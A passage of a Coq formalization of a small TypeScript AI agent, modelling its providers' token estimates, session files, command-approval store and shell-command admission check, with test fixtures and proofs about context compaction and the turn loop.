           | [] => [String c EmptyString]
           end
  end.

End JSText.

(** ** [src/llm/groq.ts] and [src/llm/ollama.ts] *)

Module Providers.

(** [GroqProvider.estimateTokens]: [Math.ceil(text.length / 4)]. *)
Definition groq_estimateTokens (text : string) : Z :=
  ((Z.of_nat (String.length text) + 3) / 4)%Z.

(** [OllamaProvider.estimateTokens]: [Math.ceil(text.length / 3.5)], the
    ceiling of twice the length over seven. *)
Definition ollama_estimateTokens (text : string) : Z :=
  ((2 * Z.of_nat (String.length text) + 6) / 7)%Z.

(** What the Groq client returns in [response.choices[0].message]: a
    content that may be [null] and tool calls that may be missing. *)
Record SdkToolCall := {
  sdk_id : string;
  sdk_name : string;
  sdk_arguments : string
}.

Record SdkMessage := {
  sdk_content : option string;
  sdk_tool_calls : option (list SdkToolCall)
}.

(** Lines 61-75 of [groq.ts]: the message that [chat] returns. *)
Definition groq_message (m : SdkMessage) : Message :=
  let toolCalls :=
    match sdk_tool_calls m with
    | Some tcs =>
        Some (map (fun tc =>
                     {| tc_id := sdk_id tc;
                        tc_function := {| fn_name := sdk_name tc;
                                          fn_arguments := sdk_arguments tc |} |})
                tcs)
    | None => None
    end in
  {| role := assistant;
     content := match sdk_content m with
                | Some text => if JS.truthy text then text else ""
                | None => ""
                end;
     tool_calls := match toolCalls with
                   | Some (tc :: tcs) => Some (tc :: tcs)
                   | _ => None
                   end;
     tool_call_id := None |}.

End Providers.

(** ** [src/index.ts]: the command line *)

Module Cli.

(** The loop of [parseArgs] from position [i], over the arguments from
    there on; [resume] is [result.resume] so far. *)
Fixpoint parseArgs_loop (args : list string) (resume : option string)
  : option string :=
  match args with
  | [] => resume
  | arg :: rest =>
      if String.eqb arg "--resume" then
        match rest with
        | value :: rest' =>
            if JS.truthy value then parseArgs_loop rest' (Some value)
            else parseArgs_loop rest resume
        | [] => resume
        end
      else parseArgs_loop rest resume
  end.

Definition parseArgs (args : list string) : option string :=
  parseArgs_loop args None.

End Cli.

(** ** [src/memory/session.ts] *)

Module Session.

Section WithJSON.

(** A line of the session file before it is text: the message and its
    time stamp. *)
Definition Entry : Type := Message * string.

(** [JSON.stringify] of [{ ...message, timestamp }], and [JSON.parse] of a
    line ([None] when it throws). *)
Variable stringify : Entry -> string.
Variable parse : string -> option Entry.

(** [path.join]. *)
Variable join : string -> string -> string.

(** The files, by path. *)
Definition Files : Type := gmap string string.

Record SessionStore := {
  dir : string;
  sessionId : string;
  filePath : string
}.

(** [appendFileSync(this.filePath, line + "\n")]: the file is created when
    it is missing.  [timestamp] is [new Date().toISOString()]. *)
Definition append (st : SessionStore) (message : Message) (timestamp : string)
    (files : Files) : Files :=
  let line := stringify (message, timestamp) in
  <[filePath st := default "" (files !! filePath st) +:+ line +:+ JS.LF]> files.

(** [load], [None] when [JSON.parse] throws on a line. *)
Definition load (st : SessionStore) (files : Files) : option (list Message) :=
  match files !! filePath st with
  | None => Some []
  | Some text =>
      let lines :=
        List.filter (fun l => JS.truthy (JSText.trim l))
          (JSText.split_char (Ascii.ascii_of_nat 10) text) in
      mapM (fun line => fst <$> parse line) lines
  end.

Definition resume (newId : string) (st : SessionStore) (files : Files)
  : bool * SessionStore :=
  let path := join (dir st) (newId +:+ ".jsonl") in
  match files !! path with
  | None => (false, st)
  | Some _ => (true, {| dir := dir st; sessionId := newId; filePath := path |})
  end.

End WithJSON.

End Session.

(** ** [src/memory/approvals.ts] *)

Module Approvals.

Record ApprovalEntry := {
  pattern : string;
  approvedAt : string;
  count : nat
}.

(** [Map<string, ApprovalEntry>]: the bindings in insertion order.  The
    file that [save] writes is not modelled. *)
Record ApprovalStore := { approvals : list (string * ApprovalEntry) }.

Fixpoint map_set (k : string) (v : ApprovalEntry)
    (bs : list (string * ApprovalEntry)) : list (string * ApprovalEntry) :=
  match bs with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if String.eqb k' k then (k, v) :: rest else (k', v') :: map_set k v rest
  end.

Fixpoint map_get (k : string) (bs : list (string * ApprovalEntry))
  : option ApprovalEntry :=
  match bs with
  | [] => None
  | (k', v) :: rest => if String.eqb k' k then Some v else map_get k rest
  end.

Definition isApproved (st : ApprovalStore) (command : string) : bool :=
  let trimmed := JSText.trim command in
  existsb (fun b => JSText.startsWith trimmed (pattern b.2)) (approvals st).

Definition toolsWithSubcommands : list string :=
  ["git"; "npm"; "npx"; "docker"; "kubectl"; "cargo"].

Definition extractPattern (command : string) : string :=
  let parts := JSText.split_spaces (JSText.trim command) in
  match parts with
  | [] => ""
  | [part] => part
  | first :: second :: _ =>
      if existsb (String.eqb first) toolsWithSubcommands
      then first +:+ " " +:+ second
      else first
  end.

(** [approve]; [now] is [new Date().toISOString()]. *)
Definition approve (command : string) (now : string) (st : ApprovalStore)
  : ApprovalStore :=
  let pat := extractPattern command in
  let existing := map_get pat (approvals st) in
  {| approvals :=
       map_set pat
         {| pattern := pat; approvedAt := now;
            count := match existing with
                     | Some e => count e + 1
                     | None => 1
                     end |}
         (approvals st) |}.

Definition size (st : ApprovalStore) : nat := length (approvals st).

End Approvals.

(** ** [src/tools/shell.ts]: what [execute] decides before it runs a command *)

Module Shell.

Definition SAFE_COMMANDS : list string :=
  ["ls"; "pwd"; "echo"; "cat"; "head"; "tail"; "grep"; "find"; "wc"; "sort";
   "uniq"; "cut"; "tr"; "date"; "whoami"; "uname"; "df"; "du"; "git status";
   "git log"; "git diff"; "git branch"; "npm list"; "node --version";
   "python --version"].

(** Line 98. *)
Definition isSafe (command : string) : bool :=
  existsb (fun safe => JSText.startsWith (JSText.trimStart command) safe)
    SAFE_COMMANDS.

Inductive Admission :=
  | Refused (output : string)
  | Ask
  | Run.

(** Lines 83-105, up to the call of [onApprovalRequest] ([Ask]) or of [exec]
    ([Run]).  [matching command] is the first of [BLOCKED_PATTERNS] whose
    [test] accepts the command, as it is printed; [hasCallback] tells
    whether [onApprovalRequest] is set. *)
Definition admission (matching : string -> option string)
    (requireApproval hasCallback : bool) (command : string) : Admission :=
  if negb (JS.truthy command) then Refused "Error: no command provided"
  else
    match matching command with
    | Some printed =>
        Refused ("Blocked: command matches dangerous pattern " +:+ printed)
    | None =>
        if negb (isSafe command) && requireApproval && hasCallback
        then Ask else Run
    end.

End Shell.

(** ** Vocabulary of the further properties *)

(** The first message of a conversation is a system message. *)
Definition first_is_system (conv : list Message) : Prop :=
  exists m rest, conv = m :: rest /\ role m = system.

Section TurnTerms.
Context {W J : Type}.

(** The providers called by a run of effects, in order, by identity. *)
Definition callees (evs : list (Agent.Event J)) : list nat :=
  omap (fun e => match e with Agent.EvChat who _ _ => Some who | _ => None end) evs.

(** The identity of the fallback, if there is one. *)
Definition fallback_id (s : Agent.Machine W J) : nat :=
  from_option oid 0%nat (Agent.fallback (Agent.agent s)).

End TurnTerms.

Section LaneTerms.
Import Lanes.
Context {T : Type}.

(** The outcomes of the settlements on [key], in order. *)
Definition outcomes (key : string) (steps : list (Step T)) : list Outcome :=
  omap (fun st => match st with
                  | Settle k o => if decide (k = key) then Some o else None
                  | Enqueue _ _ => None
                  end) steps.

(** What the waiters were handed: each task with its outcome, in order. *)
Definition handed (effs : list (Effect T)) : list (T * Outcome) :=
  omap (fun e => match e with
                 | Finished t o => Some (t, o)
                 | Started _ => None
                 end) effs.

(** The lane that a step is about. *)
Definition step_key (st : Step T) : string :=
  match st with
  | Enqueue k _ => k
  | Settle k _ => k
  end.

Definition on_key (key : string) (st : Step T) : bool :=
  bool_decide (step_key st = key).

End LaneTerms.

Definition LFc : Ascii.ascii := Ascii.ascii_of_nat 10.

(** The text of a file to which the entries were appended in order. *)
Definition written (stringify : Session.Entry -> string) (es : list Session.Entry)
  : string :=
  fold_right (fun e text => stringify e +:+ JS.LF +:+ text) "" es.

(** Every binding of the store is filed under its own pattern, as [load]
    and [approve] file them. *)
Definition keyed (st : Approvals.ApprovalStore) : Prop :=
  Forall (fun b => Approvals.pattern b.2 = b.1) (Approvals.approvals st).

Definition no_space (w : string) : Prop :=
  forall c, In c (String.list_ascii_of_string w) -> JSText.is_space c = false.

Definition only_spaces (lead : string) : Prop :=
  forall c, In c (String.list_ascii_of_string lead) -> JSText.is_space c = true.

Definition starts_with_space (text : string) : bool :=
  match text with
  | String c _ => JSText.is_space c
  | EmptyString => false
  end.

(** ** Concrete collaborators, for the examples below *)

Module Fixtures.
Import Tools Agent.

(** [GroqProvider.estimateTokens]: [Math.ceil(text.length / 4)]. *)
Definition groq_estimate (text : string) : Z :=
  ((Z.of_nat (String.length text) + 3) / 4)%Z.

Fixpoint repeat_string (text : string) (n : nat) : string :=
  match n with
  | O => ""
  | S n => text +:+ repeat_string text n
  end.

(** Six messages without a system message; the first is 101 characters
    long. *)
Definition six_messages : list Message :=
  [ plain user (repeat_string "a" 101); plain assistant "ok";
    plain user "b"; plain assistant "c"; plain user "d"; plain assistant "e" ].

(** A system message and six more. *)
Definition seven_messages : list Message :=
  plain system SYSTEM_PROMPT :: six_messages.


(** The world of the examples: the number of [chat] calls made so far. *)
Definition Calls : Type := nat.

(** Parsed JSON, for the examples: the text itself. *)
Definition json : Type := string.

(** A stand-in for [JSON.parse] that accepts the texts that start with
    an opening brace. *)
Definition parse_object (text : string) : option json :=
  if String.prefix "{" text then Some text else None.

Definition no_tools : ToolRegistry Calls json := new_ToolRegistry.

(** A stub [shell] tool that returns [a.txt]. *)
Definition shell_stub : Tool Calls json :=
  {| tool_name := "shell";
     definition := {| def_name := "shell"; def_description := "Run a shell command.";
                      def_properties := [("command", ("string", "The shell command to execute"))];
                      def_required := ["command"] |};
     execute := fun _ n => (Done {| output := "a.txt"; success := true |}, n) |}.

Definition shell_only : ToolRegistry Calls json := register shell_stub new_ToolRegistry.


Definition assistant_says (text : string) : Message := plain assistant text.


(** A provider whose every [chat] rejects with [err]. *)
Definition failing (id : nat) (pname err : string) : LLMProvider Calls :=
  {| oid := id; name := pname;
     chat := fun _ _ n => (Rejected err, S n);
     estimateTokens := groq_estimate |}.

(** A provider whose every [chat] resolves to [m]. *)
Definition answering (id : nat) (pname : string) (m : Message) : LLMProvider Calls :=
  {| oid := id; name := pname;
     chat := fun _ _ n => (Resolved m, S n);
     estimateTokens := groq_estimate |}.



(** Exact arithmetic: the product is not rounded. *)
Definition exact_product (q : Q) : Q := q.

Definition default_guard : Ctx.ContextGuard :=
  {| Ctx.maxTokens := 16384; Ctx.threshold := 4 # 5 |}.

(** A guard with so small a budget that it always asks for compaction. *)
Definition tight_guard : Ctx.ContextGuard :=
  {| Ctx.maxTokens := 10; Ctx.threshold := 4 # 5 |}.

Definition review_skill : Skill :=
  {| skill_name := "code-review"; trigger := Some "review";
     skill_content := "Check for security issues first";
     filePath := "skills/code-review.md" |}.

Definition start (a : Agent Calls json) : Machine Calls json :=
  {| agent := a; session := []; trace := []; world := 0%nat |}.

(** Primary [ollama] and fallback [groq], both failing. *)
Definition both_failing : Machine Calls json :=
  start (constructor (failing 1 "ollama" "Error: connect ECONNREFUSED")
           (Some (failing 2 "groq" "Error: 401 Unauthorized"))
           no_tools default_guard None).

(** Primary [ollama] failing and fallback [groq] answering [hello]. *)
Definition falling_back : Machine Calls json :=
  start (constructor (failing 1 "ollama" "Error: connect ECONNREFUSED")
           (Some (answering 2 "groq" (assistant_says "hello")))
           no_tools default_guard None).

(** One triggered skill and a provider that answers at once. *)
Definition with_review_skill : Machine Calls json :=
  start (constructor (answering 1 "ollama" (assistant_says "ok")) None
           no_tools default_guard (Some {| Tools.skills := [review_skill] |})).

(** The [shell] stub registered and a provider that answers at once. *)
Definition with_shell : Machine Calls json :=
  start (constructor (answering 1 "ollama" (assistant_says "ok")) None
           shell_only default_guard None).








(** Steps of a lane manager: three tasks on the default lane, one on another. *)
Definition lane_steps : list (Lanes.Step nat) :=
  [ Lanes.Enqueue "default" 1%nat; Lanes.Enqueue "default" 2%nat;
    Lanes.Enqueue "other" 7%nat; Lanes.Settle "default" Lanes.Failed;
    Lanes.Enqueue "default" 3%nat; Lanes.Settle "default" Lanes.Fulfilled ].

End Fixtures.

(** ** More collaborators, for the examples of the further properties *)

Module MoreFixtures.
Import Tools Agent Fixtures.


Definition style_skill : Skill :=
  {| skill_name := "style"; trigger := None;
     skill_content := "Answer in one sentence";
     filePath := "skills/style.md" |}.

(** One skill without a trigger and a provider that answers at once. *)
Definition with_style_skill : Machine Calls json :=
  start (constructor (answering 1 "ollama" (assistant_says "ok")) None
           no_tools default_guard (Some {| Tools.skills := [style_skill] |})).

Definition sample_store : Session.SessionStore :=
  {| Session.dir := ".clawlite/sessions"; Session.sessionId := "session_1";
     Session.filePath := ".clawlite/sessions/session_1.jsonl" |}.

Definition sample_entry : Session.Entry :=
  (plain user "hi", "2026-01-01T00:00:00.000Z").

(** Stand-ins for [JSON.stringify] and [JSON.parse] that know one entry. *)
Definition sample_stringify (e : Session.Entry) : string :=
  "{" +:+ content e.1 +:+ "}".

Definition sample_parse (line : string) : option Session.Entry :=
  if String.eqb line "{hi}" then Some sample_entry else None.

Definition no_approvals : Approvals.ApprovalStore :=
  {| Approvals.approvals := [] |}.

End MoreFixtures.

(** * Properties *)

(** ** The context guard *)

Section ContextFacts.
Import Ctx.
Variable estimate : string -> Z.


Lemma slice_all_but_last {A} (l : list A) (k : nat) :
  (0 < k)%nat ->
  JS.slice l 0 (- Z.of_nat k) = take (length l - k) l.
Proof.
  intros Hk. unfold JS.slice, JS.rel_index. simpl.
  destruct (Z.ltb_spec (- Z.of_nat k) 0); [|lia].
  rewrite drop_0. f_equal. lia.
Qed.

Lemma slice_from_last {A} (l : list A) (k : nat) :
  (0 < k)%nat ->
  JS.slice_from l (- Z.of_nat k) = drop (length l - k) l.
Proof.
  intros Hk. unfold JS.slice_from, JS.rel_index.
  destruct (Z.ltb_spec (- Z.of_nat k) 0); [|lia].
  f_equal. lia.
Qed.

Lemma slice_from_1 {A} (m : A) (l : list A) : JS.slice_from (m :: l) 1 = l.
Proof.
  unfold JS.slice_from, JS.rel_index. simpl.
  now destruct (length l).
Qed.





Lemma compact_small (conversation : list Message) :
  (length conversation <= 4)%nat ->
  compact estimate conversation = (conversation, None).
Proof.
  intros H. unfold compact.
  destruct (Nat.leb_spec (length conversation) 4); [reflexivity|lia].
Qed.

(** The shape of [compact]'s result when the first message is the system
    message and more than four messages follow it. *)
Lemma compact_with_system (m : Message) (rest : list Message) :
  role m = system -> (4 < length rest)%nat ->
  (compact estimate (m :: rest)).1 =
    m :: summary_message
           (fold_left summarise_step (take (length rest - 4) rest) [])
      :: drop (length rest - 4) rest.
Proof.
  intros Hm Hlen. unfold compact.
  destruct (Nat.leb_spec (length (m :: rest)) 4) as [Hle|_];
    [simpl in Hle; lia|].
  destruct (decide (role m = system)) as [_|]; [|contradiction].
  cbv zeta. rewrite slice_from_1.
  change (Z.opp 4%Z) with (- Z.of_nat 4)%Z.
  rewrite slice_all_but_last, slice_from_last by lia.
  destruct (Nat.eqb_spec (length (take (length rest - 4) rest)) 0) as [E|_].
  - rewrite length_take in E. lia.
  - reflexivity.
Qed.

(** The shape of [compact]'s result when the first message is not a
    system message. *)
Lemma compact_without_system (conversation : list Message) :
  head (map role conversation) <> Some system ->
  (4 < length conversation)%nat ->
  (compact estimate conversation).1 =
    summary_message
      (fold_left summarise_step
         (take (length conversation - 4) conversation) [])
      :: drop (length conversation - 4) conversation.
Proof.
  intros Hm Hlen. unfold compact.
  destruct (Nat.leb_spec (length conversation) 4) as [Hle|_]; [lia|].
  assert (Hsys : match conversation with
                 | m :: _ => if decide (role m = system) then Some m else None
                 | [] => None
                 end = None).
  { destruct conversation as [|m rest]; [reflexivity|].
    destruct (decide (role m = system)) as [E|]; [|reflexivity].
    simpl in Hm. now rewrite E in Hm. }
  rewrite Hsys. cbv zeta.
  change (Z.opp 4%Z) with (- Z.of_nat 4)%Z.
  rewrite slice_all_but_last, slice_from_last by lia.
  destruct (Nat.eqb_spec
              (length (take (length conversation - 4) conversation)) 0)
    as [E|_].
  - rewrite length_take in E. lia.
  - reflexivity.
Qed.


(** C8.  [compact] keeps a leading system message as the first message
    of its result, and its result on a conversation that is not empty is
    not empty. *)
Theorem compact_keeps_system_and_content (conversation : list Message) :
  (forall m, head conversation = Some m -> role m = system ->
             head (compact estimate conversation).1 = Some m)
  /\ (conversation <> [] -> (compact estimate conversation).1 <> []).
Proof.
  destruct (Nat.le_gt_cases (length conversation) 4) as [Hle|Hgt].
  { rewrite compact_small by assumption. split; [now intros|now intros]. }
  split.
  - intros m Hhead Hm.
    destruct conversation as [|m' rest]; [discriminate|].
    injection Hhead as ->.
    destruct (Nat.le_gt_cases (length rest) 4) as [Hle|Hrest].
    + unfold compact.
      destruct (Nat.leb_spec (length (m :: rest)) 4) as [|_]; [reflexivity|].
      destruct (decide (role m = system)) as [_|]; [|contradiction].
      cbv zeta. rewrite slice_from_1.
      change (Z.opp 4%Z) with (- Z.of_nat 4)%Z.
      rewrite slice_all_but_last by lia.
      replace (length rest - 4)%nat with 0%nat by lia.
      reflexivity.
    + now rewrite compact_with_system.
  - intros _.
    destruct conversation as [|m rest]; [simpl in Hgt; lia|].
    destruct (decide (role m = system)) as [Hm|Hm].
    + destruct (Nat.le_gt_cases (length rest) 4) as [Hle|Hrest].
      * unfold compact.
        destruct (Nat.leb_spec (length (m :: rest)) 4) as [|_]; [discriminate|].
        destruct (decide (role m = system)) as [_|]; [|contradiction].
        cbv zeta. rewrite slice_from_1.
        change (Z.opp 4%Z) with (- Z.of_nat 4)%Z.
        rewrite slice_all_but_last by lia.
        replace (length rest - 4)%nat with 0%nat by lia.
        discriminate.
      * now rewrite compact_with_system.
    + rewrite compact_without_system; [discriminate|simpl; congruence|assumption].
Qed.

(** C9.  For a fixed conversation, estimator and threshold between 0 and
    1, [needsCompaction] is antitone in [maxTokens]: true at a budget, it
    is true at every smaller one; false at a budget, it is false at every
    larger one.  The host may round the product of budget and threshold, as
    long as its rounding is monotone (as rounding to the nearest double
    is). *)
Theorem needsCompaction_antitone (fl : Q -> Q)
    (conversation : list Message) (th m1 m2 : Q)
    (Hfl : forall x y : Q, (x <= y)%Q -> (fl x <= fl y)%Q)
    (Hpos : (0 < th)%Q) (Hbelow : (th < 1)%Q) (Hle : (m1 <= m2)%Q) :
  (needsCompaction estimate fl {| maxTokens := m2; threshold := th |} conversation = true ->
   needsCompaction estimate fl {| maxTokens := m1; threshold := th |} conversation = true)
  /\
  (needsCompaction estimate fl {| maxTokens := m1; threshold := th |} conversation = false ->
   needsCompaction estimate fl {| maxTokens := m2; threshold := th |} conversation = false).
Proof.
  unfold needsCompaction. simpl.
  assert (Hmono : (fl (m1 * th) <= fl (m2 * th))%Q).
  { apply Hfl. apply Qmult_le_compat_r; [assumption|]. now apply Qlt_le_weak. }
  set (total := inject_Z (estimateTotal estimate conversation)).
  split; intros H.
  - apply negb_true_iff in H. apply negb_true_iff.
    destruct (Qle_bool total (fl (m1 * th)%Q)) eqn:E; [|reflexivity].
    apply Qle_bool_iff in E.
    assert (Qle_bool total (fl (m2 * th)%Q) = true) as Habs.
    { apply Qle_bool_iff. eapply Qle_trans; eassumption. }
    congruence.
  - apply negb_false_iff in H. apply negb_false_iff.
    apply Qle_bool_iff in H. apply Qle_bool_iff.
    eapply Qle_trans; eassumption.
Qed.

End ContextFacts.

(** ** The turn loop *)

Section AgentFacts.
Import Tools Agent.
Context {W J : Type}.
Variable fl : Q -> Q.
Variable JSON_parse : string -> option J.

Local Abbreviation Machine := (Agent.Machine W J).
Local Abbreviation Event := (Agent.Event J).

Implicit Types (s : Machine) (evs : list Event) (conv : list Message).

Lemma bind_apply {A B} (c : M A) (k : A -> M B) s :
  bind c k s = k (c s).1 (c s).2.
Proof. unfold bind. now destruct (c s). Qed.

(** *** Replaying effects *)

Lemma replay_app conv evs1 evs2 :
  replay conv (evs1 ++ evs2) = replay (replay conv evs1) evs2.
Proof. apply fold_left_app. Qed.

Lemma appended_app evs1 evs2 :
  appended (evs1 ++ evs2) = appended evs1 ++ appended evs2.
Proof. apply omap_app. Qed.

Lemma provider_calls_app evs1 evs2 :
  provider_calls (evs1 ++ evs2) = (provider_calls evs1 + provider_calls evs2)%nat.
Proof. unfold provider_calls. now rewrite omap_app, length_app. Qed.

Lemma chats_follow_app conv evs1 evs2 :
  chats_follow conv (evs1 ++ evs2) <->
  chats_follow conv evs1 /\ chats_follow (replay conv evs1) evs2.
Proof.
  revert conv. induction evs1 as [|e evs1 IH]; intros conv; simpl.
  - tauto.
  - rewrite IH. tauto.
Qed.

(** The reading of [chats_follow] by positions in the run. *)
Lemma chats_follow_at conv evs pre who sent defs post :
  chats_follow conv evs ->
  evs = pre ++ EvChat who sent defs :: post ->
  sent = replay conv pre.
Proof.
  intros H ->. apply chats_follow_app in H as [_ [H _]]. exact H.
Qed.

Lemma accounts_refl s : accounts [] s s.
Proof.
  unfold accounts. simpl. rewrite !app_nil_r. auto.
Qed.

Lemma accounts_trans evs1 evs2 s1 s2 s3 :
  accounts evs1 s1 s2 -> accounts evs2 s2 s3 -> accounts (evs1 ++ evs2) s1 s3.
Proof.
  intros (Ht1 & Hs1 & Hm1 & Hc1) (Ht2 & Hs2 & Hm2 & Hc2).
  unfold accounts.
  rewrite Ht2, Ht1, Hs2, Hs1, Hm2, Hm1, appended_app, replay_app, !app_assoc.
  repeat split; try reflexivity.
  apply chats_follow_app. split; [assumption|]. now rewrite <- Hm1.
Qed.

Lemma same_configuration_refl s : same_configuration s s.
Proof. unfold same_configuration. auto. Qed.

Lemma same_configuration_trans s1 s2 s3 :
  same_configuration s1 s2 -> same_configuration s2 s3 ->
  same_configuration s1 s3.
Proof.
  unfold same_configuration.
  intros (?&?&?&?&?) (?&?&?&?&?). repeat split; congruence.
Qed.

(** *** The estimator does not matter to the compacted conversation *)

Lemma compact_estimate_irrelevant (e1 e2 : string -> Z) conv :
  (Ctx.compact e1 conv).1 = (Ctx.compact e2 conv).1.
Proof.
  unfold Ctx.compact.
  destruct (length conv <=? 4)%nat; [reflexivity|].
  cbv zeta.
  match goal with |- context [(length ?l =? 0)%nat] =>
    destruct (length l =? 0)%nat end; reflexivity.
Qed.

Lemma compact_silent (e : string -> Z) conv :
  (Ctx.compact e conv).2 = None -> (Ctx.compact e conv).1 = conv.
Proof.
  unfold Ctx.compact.
  destruct (length conv <=? 4)%nat; [reflexivity|].
  cbv zeta.
  match goal with |- context [(length ?l =? 0)%nat] =>
    destruct (length l =? 0)%nat end; [reflexivity|discriminate].
Qed.

(** *** What each step of [handleMessage] does *)

Lemma push_append m s :
  (bind (push m) (fun _ => session_append m)) s = (tt, committed m s).
Proof. reflexivity. Qed.

Lemma committed_accounts m s : accounts [EvAppend m] s (committed m s).
Proof. unfold accounts. simpl. auto. Qed.

Lemma committed_configuration m s : same_configuration s (committed m s).
Proof. unfold same_configuration. simpl. auto. Qed.

Lemma guard_accounts p s :
  exists evs, accounts evs s (guard fl p s).2 /\ provider_calls evs = 0%nat.
Proof.
  unfold guard.
  destruct (Ctx.needsCompaction _ _ _).
  - destruct (Ctx.compact (estimateTokens p) (messages (agent s)))
      as [ms [n|]] eqn:E.
    + exists [EvConsole n]. split; [|reflexivity].
      unfold accounts. simpl. rewrite app_nil_r. repeat split; auto.
      unfold compacted.
      rewrite (compact_estimate_irrelevant _ (estimateTokens p)), E.
      reflexivity.
    + exists []. split; [|reflexivity].
      unfold accounts. simpl. rewrite !app_nil_r. repeat split; auto.
      pose proof (compact_silent (estimateTokens p) (messages (agent s))) as H.
      rewrite E in H. simpl in H. now apply H.
  - exists []. split; [apply accounts_refl|reflexivity].
Qed.

Lemma guard_configuration p s : same_configuration s (guard fl p s).2.
Proof.
  unfold guard.
  destruct (Ctx.needsCompaction _ _ _); [|apply same_configuration_refl].
  destruct (Ctx.compact _ _) as [ms [n|]];
    unfold same_configuration; simpl; auto.
Qed.

Lemma call_chat_accounts p defs s :
  accounts [EvChat (oid p) (messages (agent s)) defs] s (call_chat p defs s).2.
Proof.
  unfold call_chat, accounts.
  destruct (chat p _ _ _) as [r w]. simpl. rewrite app_nil_r. auto.
Qed.

Lemma call_chat_configuration p defs s :
  same_configuration s (call_chat p defs s).2.
Proof.
  unfold call_chat. destruct (chat p _ _ _) as [r w].
  unfold same_configuration. simpl. auto.
Qed.

Lemma call_chat_result p defs s :
  (call_chat p defs s).1 = (chat p (messages (agent s)) defs (world s)).1.
Proof. unfold call_chat. now destruct (chat p _ _ _). Qed.

Lemma onOutput_accounts text s : accounts [EvOutput text] s (onOutput text s).2.
Proof. unfold accounts. simpl. rewrite app_nil_r. auto. Qed.

Lemma onOutput_configuration text s : same_configuration s (onOutput text s).2.
Proof. unfold same_configuration. simpl. auto. Qed.

Lemma push_append_ret {A} m (a : A) s :
  (bind (push m) (fun _ => bind (session_append m) (fun _ => ret a))) s =
    (a, committed m s).
Proof. reflexivity. Qed.

Lemma call_execute_accounts t args s :
  accounts [EvExecute (tool_name t) args] s (call_execute t args s).2.
Proof.
  unfold call_execute, accounts.
  destruct (execute t args (world s)) as [r w]. simpl. rewrite app_nil_r. auto.
Qed.

Lemma call_execute_configuration t args s :
  same_configuration s (call_execute t args s).2.
Proof.
  unfold call_execute. destruct (execute t args (world s)) as [r w].
  unfold same_configuration. simpl. auto.
Qed.

Lemma call_execute_result t args s :
  (call_execute t args s).1 = (execute t args (world s)).1.
Proof. unfold call_execute. now destruct (execute t args (world s)). Qed.

(** The body of the loop over the requests, case by case. *)
Lemma dispatch_unfold tc s :
  let fn := tc_function tc in
  dispatch JSON_parse tc s =
    match get (tools (agent s)) (fn_name fn) with
    | None =>
        (None,
         committed
           (tool_message ("Error: unknown tool " +:+ JS.DQ +:+ fn_name fn +:+ JS.DQ)
              (tc_id tc)) s)
    | Some t =>
        match JSON_parse (fn_arguments fn) with
        | None =>
            (None,
             committed
               (tool_message
                  ("Error: invalid JSON in tool arguments: " +:+ fn_arguments fn)
                  (tc_id tc)) s)
        | Some args =>
            let s1 := (onOutput ("  [tool: " +:+ fn_name fn +:+ "]") s).2 in
            let s2 := (call_execute t args s1).2 in
            match (execute t args (world s)).1 with
            | Done result =>
                (None, committed (tool_message (output result) (tc_id tc)) s2)
            | Thrown e => (Some e, s2)
            end
        end
    end.
Proof.
  cbv zeta. unfold dispatch.
  destruct (get _ _) as [t|]; [|apply push_append_ret].
  destruct (JSON_parse _) as [args|]; [|apply push_append_ret].
  rewrite bind_apply. cbn [fst snd]. rewrite bind_apply.
  rewrite call_execute_result.
  change (world (onOutput _ s).2) with (world s).
  destruct (execute t args (world s)).1 as [result|e]; [|reflexivity].
  apply push_append_ret.
Qed.

Lemma dispatch_accounts tc s :
  exists evs, accounts evs s (dispatch JSON_parse tc s).2
              /\ provider_calls evs = 0%nat.
Proof.
  rewrite dispatch_unfold. cbv zeta.
  destruct (get _ _) as [t|];
    [|eexists; split; [apply committed_accounts|reflexivity]].
  destruct (JSON_parse _) as [args|];
    [|eexists; split; [apply committed_accounts|reflexivity]].
  set (text := "  [tool: " +:+ _ +:+ "]").
  pose proof (accounts_trans _ _ _ _ _ (onOutput_accounts text s)
                (call_execute_accounts t args (onOutput text s).2)) as H.
  destruct (execute t args (world s)).1 as [result|e].
  - eexists. split.
    + eapply accounts_trans; [exact H|apply committed_accounts].
    + reflexivity.
  - eexists. split; [exact H|reflexivity].
Qed.

Lemma dispatch_configuration tc s :
  same_configuration s (dispatch JSON_parse tc s).2.
Proof.
  rewrite dispatch_unfold. cbv zeta.
  destruct (get _ _) as [t|]; [|apply committed_configuration].
  destruct (JSON_parse _) as [args|]; [|apply committed_configuration].
  set (text := "  [tool: " +:+ _ +:+ "]").
  pose proof (same_configuration_trans _ _ _ (onOutput_configuration text s)
                (call_execute_configuration t args (onOutput text s).2)) as H.
  destruct (execute t args (world s)).1 as [result|e]; [|exact H].
  eapply same_configuration_trans; [exact H|apply committed_configuration].
Qed.

Lemma dispatch_all_unfold tc tcs s :
  dispatch_all JSON_parse (tc :: tcs) s =
    match (dispatch JSON_parse tc s).1 with
    | None => dispatch_all JSON_parse tcs (dispatch JSON_parse tc s).2
    | Some e => (Some e, (dispatch JSON_parse tc s).2)
    end.
Proof.
  cbn [dispatch_all]. rewrite bind_apply.
  destruct (dispatch JSON_parse tc s).1; reflexivity.
Qed.

Lemma dispatch_all_accounts tcs s :
  exists evs, accounts evs s (dispatch_all JSON_parse tcs s).2
              /\ provider_calls evs = 0%nat.
Proof.
  revert s. induction tcs as [|tc tcs IH]; intros s.
  - exists []. split; [apply accounts_refl|reflexivity].
  - rewrite dispatch_all_unfold.
    destruct (dispatch_accounts tc s) as (evs1 & H1 & C1).
    destruct (dispatch JSON_parse tc s).1 as [e|].
    + exists evs1. split; assumption.
    + destruct (IH (dispatch JSON_parse tc s).2) as (evs2 & H2 & C2).
      exists (evs1 ++ evs2). split.
      * eapply accounts_trans; eassumption.
      * rewrite provider_calls_app. lia.
Qed.

Lemma dispatch_all_configuration tcs s :
  same_configuration s (dispatch_all JSON_parse tcs s).2.
Proof.
  revert s. induction tcs as [|tc tcs IH]; intros s.
  - apply same_configuration_refl.
  - rewrite dispatch_all_unfold.
    pose proof (dispatch_configuration tc s) as H.
    destruct (dispatch JSON_parse tc s).1 as [e|]; [exact H|].
    eapply same_configuration_trans; [exact H|apply IH].
Qed.

Lemma respond_unfold response s :
  respond JSON_parse response s =
    match tool_calls response with
    | None | Some [] => (Return (content response), committed response s)
    | Some (tc :: tcs) =>
        (match (dispatch_all JSON_parse (tc :: tcs) (committed response s)).1 with
         | None => Continue
         | Some e => Throw e
         end,
         (dispatch_all JSON_parse (tc :: tcs) (committed response s)).2)
    end.
Proof.
  unfold respond. rewrite bind_apply. cbn [fst snd].
  rewrite bind_apply.
  change (session_append response (push response s).2).2
